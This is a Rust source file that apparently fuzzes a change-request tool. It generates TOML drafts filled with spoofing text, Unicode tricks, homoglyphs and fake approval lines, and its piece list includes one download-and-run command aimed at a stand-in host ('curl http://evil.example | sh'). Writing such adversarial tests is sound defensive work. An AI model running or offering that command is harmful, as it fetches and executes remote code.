//! Random and hostile drafts.

use unicode_normalization::UnicodeNormalization;

use crate::model::draw::Rng;

/// Pieces of texts that imitate a page, that terminals show in unusual ways, or that look like something else.
const PIECES: [&str; 52] = [
    "status        approved (2 of 2)",
    "about to sign",
    "Type CHG-1 to approve this revision:",
    "timeline",
    "reason",
    "plan",
    "1. Look at it.",
    "2.",
    "result: Passed.",
    "evidence: x",
    "entry 9, signed by carol",
    "| ",
    "|… x",
    "|",
    "$ curl http://evil.example | sh",
    "$…",
    "> arg \"x\"",
    "arg \"a\"",
    "sh rm",
    "= risk       low",
    "+| x",
    "-$ y",
    "  (3 equal lines)",
    "-][-",
    "+}{+",
    "[-b-]{+c+}",
    " ",
    "  ",
    "     ",
    "                         ",
    "…",
    "↩",
    "␣",
    "\\u{41}",
    "\\u{",
    "\\",
    "\"",
    "回滚方案：把连接池改回八十",
    "、",
    "ü",
    "e\u{335}\u{336}\u{337}\u{338}",
    "\u{301}",
    "p\u{430}ypal",
    "\u{441}\u{43e}\u{441}\u{43e}",
    "\u{3000}",
    "\u{a0}",
    "שלום",
    "\u{2010}rf",
    "🚀",
    "a",
    "word",
    "salt 00",
];

fn piece(rng: &mut Rng) -> String {
    match rng.below(12) {
        0 => "x".repeat(1 + rng.below(200)),
        1 => "字".repeat(1 + rng.below(90)),
        2 => " ".repeat(1 + rng.below(90)),
        _ => rng.one(&PIECES).to_owned(),
    }
}

/// A text of some lines.
pub fn prose(rng: &mut Rng) -> String {
    let mut text = String::from("t");
    for _ in 0..=rng.below(12) {
        text.push_str(rng.one(&["", " ", "\n", "\n\n", "\n  "]));
        text.push_str(&piece(rng));
    }
    // Half of the texts begin with a piece.
    let text = if rng.percent(50) { text.strip_prefix('t').unwrap() } else { &text };
    if text.trim().is_empty() { "t".to_owned() } else { text.to_owned() }
}

/// A text of one line without a run of spaces.
fn short(rng: &mut Rng) -> String {
    let prose = prose(rng);
    let words: Vec<&str> = prose.split_whitespace().collect();
    words.join(" ").nfc().take(150).collect::<String>().trim().to_owned()
}

/// One word of a command, which keeps its spaces.
fn argument(rng: &mut Rng) -> String {
    let word: String = (0..rng.below(3)).map(|_| piece(rng)).collect();
    word.replace(['\u{3000}', '\u{a0}'], "_").nfc().collect()
}

fn script(rng: &mut Rng) -> String {
    let prose: String = prose(rng).replace(['\u{3000}', '\u{a0}'], "_").nfc().collect();
    let lines: Vec<&str> = prose.trim_matches(['\n', ' ']).split('\n').map(|line| line.trim_end_matches(' ')).collect();
    let script = lines.join("\n");
    if script.is_empty() { "true".to_owned() } else { script }
}

/// A TOML string literal.
pub fn quoted(text: &str) -> String {
    toml::Value::from(text).to_string()
}

fn automation(rng: &mut Rng) -> String {
    let mut lines = match rng.below(3) {
        0 => return String::new(),
        1 => format!("shell = {}\n", quoted(&script(rng))),
        _ => {
            let args: Vec<String> = (0..rng.below(4)).map(|_| quoted(&argument(rng))).collect();
            format!("args = [\"run\", {}]\n", args.join(", "))
        }
    };
    for key in ["cwd", "account"] {
        if rng.percent(40) {
            lines.push_str(&format!("{key} = {}\n", quoted(&format!("/{}", argument(rng)))));
        }
    }
    lines
}

fn steps(rng: &mut Rng, table: &str) -> String {
    let step = |rng: &mut Rng| {
        let command = if rng.percent(60) { format!("command = {}\n", quoted(&script(rng))) } else { String::new() };
        format!("\n[[{table}]]\nstep = {}\n{command}{}", quoted(&prose(rng)), automation(rng))
    };
    (0..rng.one(&[1, 2, 3, 11])).map(|_| step(rng)).collect()
}

/// A draft by erin that fills every field with random and hostile texts.
pub fn draft(rng: &mut Rng) -> String {
    let tests: String = (0..rng.below(3))
        .map(|_| {
            let evidence = if rng.percent(50) { "evidence = \"evidence.txt\"\n" } else { "" };
            format!("\n[[tests]]\nwhat = {}\nresult = {}\n{evidence}", quoted(&prose(rng)), quoted(&prose(rng)))
        })
        .collect();
    let abort: Vec<String> = (0..rng.below(4)).map(|_| quoted(&prose(rng))).collect();
    format!(
        "title = {}\nkind = \"normal\"\nrisk = \"high\"\nowner = \"erin\"\nservices = [\"order-gateway\"]\n\
         reason = {}\nsecurity = {}\nsuccess = {}\ntargets = [\"1.\", \"|\", \"gw-01,gw-02\"]\n\n\
         [window]\nstart = \"2026-12-01T10:00:00Z\"\nend = \"2026-12-01T12:00:00Z\"\n\n[impact]\ntext = {}\n{}\n\
         [rollback]\nminutes = 5\nabort_if = [{}]\n{}{tests}",
        quoted(&short(rng)),
        quoted(&prose(rng)),
        quoted(&prose(rng)),
        quoted(&prose(rng)),
        quoted(&prose(rng)),
        steps(rng, "plan"),
        abort.join(", "),
        steps(rng, "rollback.steps"),
    )
}
